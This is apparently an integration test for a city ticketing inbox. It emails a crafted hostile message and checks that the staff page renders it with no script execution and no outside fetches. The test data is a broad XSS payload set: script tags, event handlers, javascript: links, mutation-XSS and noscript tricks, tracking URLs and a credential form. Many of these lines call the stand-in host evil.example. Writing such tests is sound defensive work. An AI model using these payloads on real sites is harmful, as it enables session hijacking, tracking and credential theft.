"""A hostile email, opened in real Chromium on the staff ticket page: its HTML and headers carry scripts, event
handlers, `javascript:` links and CSS tricks. Nothing may execute and nothing may be fetched from anywhere but us."""

from __future__ import annotations

import asyncio
import re
from email.message import EmailMessage

import aiosmtplib
from playwright.async_api import BrowserContext, Dialog, expect

from gateway.app import Inbox311
from storage.tickets import list_messages, list_tickets
from tests.integration.conftest import RequestLog, artifact, log_in
from tests.smtp_sink import SmtpSink

EVIL = "evil.example"
HOSTILE_HTML = f"""<!doctype html>
<html><head>
<base href="http://{EVIL}/">
<meta http-equiv="refresh" content="0;url=http://{EVIL}/refresh">
<link rel="stylesheet" href="http://{EVIL}/style.css">
<style>@import url("http://{EVIL}/import.css"); body {{ background: url("http://{EVIL}/bg.png"); }}
p.hidden::after {{ content: url("http://{EVIL}/after.png"); }}</style>
<script>document.title = "pwned-head"; window.__pwned = 1; fetch("http://{EVIL}/fetch");</script>
</head>
<body onload="document.title='pwned-onload'; window.__pwned = 2">
<p>SAFE-MARKER-TEXT: the pothole on 12 Main St is getting worse.</p>
<img src="http://{EVIL}/pixel.gif" width="1" height="1">
<img src="x" onerror="document.title='pwned-onerror'; window.__pwned = 3">
<a href="javascript:document.title='pwned-link'">click me</a>
<a href="JaVaScRiPt:alert(1)">and me</a>
<a href="http://{EVIL}/page" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>
<div style="background-image:url('http://{EVIL}/inline.png'); width: expression(alert(1))">styled</div>
<svg onload="window.__pwned = 4"><image href="http://{EVIL}/svg.png"/><script>window.__pwned = 5</script></svg>
<iframe src="http://{EVIL}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;top.__pwned = 6&lt;/script&gt;"></iframe>
<object data="http://{EVIL}/object.swf"></object>
<embed src="http://{EVIL}/embed.swf">
<video poster="http://{EVIL}/poster.png" src="http://{EVIL}/video.mp4"></video>
<form action="http://{EVIL}/steal"><input name="pw" autofocus onfocus="window.__pwned = 7"><button>go</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 8"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__pwned=9>"></noscript>
</body></html>"""


def hostile_message() -> EmailMessage:
    m = EmailMessage()
    m["From"] = '"<img src=x onerror=window.__pwned=10>" <mallory@attacker.example>'
    m["To"] = "reports@city.example"
    m["Subject"] = "<script>document.title='pwned-subject'</script> Broken \"light\" <b onmouseover=alert(1)>here</b>"
    m["Message-ID"] = "<hostile-1@attacker.example>"
    m.set_content("SAFE-MARKER-TEXT in the plain part. <script>window.__pwned = 11</script>")
    m.add_alternative(HOSTILE_HTML, subtype="html")
    m.add_attachment(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        maintype="image",
        subtype="svg+xml",
        filename='"><img src=x onerror=alert(3)>.svg',
    )
    return m


async def test_hostile_email_runs_nothing_and_fetches_nothing(
    browser_service: Inbox311, sink: SmtpSink, context: BrowserContext, requests_seen: RequestLog
) -> None:
    host, port = browser_service.smtp_address
    await aiosmtplib.send(hostile_message(), hostname=host, port=port)
    await browser_service.worker.drain()
    async with browser_service.db.read() as session:
        [ticket] = await list_tickets(session=session)
        [message] = await list_messages(session=session, ticket_id=ticket.id)
    stored = (message.body_html or "").lower()
    assert "safe-marker-text" in stored  # the HTML part was kept, sanitised
    for bad in ("<script", "onerror", "onload", "onfocus", "javascript:", "<iframe", "<style", "expression(", "<base"):
        assert bad not in stored, bad
    # A plain link to a web page may stay (clicking it is the reader's choice); nothing that loads by itself may.
    assert set(re.findall(rf'([a-z-]+)="[^"]*{re.escape(EVIL)}', stored)) == {"href"}

    dialogs: list[str] = []
    page = await context.new_page()

    async def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    await log_in(page)
    await page.goto(f"/inbox/tickets/{ticket.id}")
    title = await page.title()
    assert title.startswith(ticket.tracking_number)
    await expect(page.locator(".msg .body").first).to_contain_text("SAFE-MARKER-TEXT")

    await page.locator("details.html summary").click()  # render the sanitised HTML in its sandboxed frame
    frame = page.frame_locator("details.html iframe")
    await expect(frame.locator("body")).to_contain_text("SAFE-MARKER-TEXT")
    await frame.locator("a", has_text="click me").click()  # whatever is left of the javascript: link
    await page.mouse.move(10, 10)  # hover where an overlay or onmouseover would catch it
    await asyncio.sleep(1.0)  # give anything that might fire time to fire
    await page.screenshot(path=artifact("hostile-ticket.png"), full_page=True)

    assert await page.title() == title
    assert await page.evaluate("() => window.__pwned") is None
    for f in page.frames:
        assert await f.evaluate("() => window.__pwned === undefined")
    assert dialogs == []
    assert requests_seen.foreign == []
    assert all(u.startswith("http://127.0.0.1:") for u in requests_seen.urls)
    # The subject and sender are shown, escaped, as text.
    await expect(page.locator("#ticket-summary")).to_contain_text("<script>document.title='pwned-subject'</script>")
    attachment_link = page.locator("ul.attachments a", has_text=".svg")
    await expect(attachment_link).to_have_attribute("download", "")
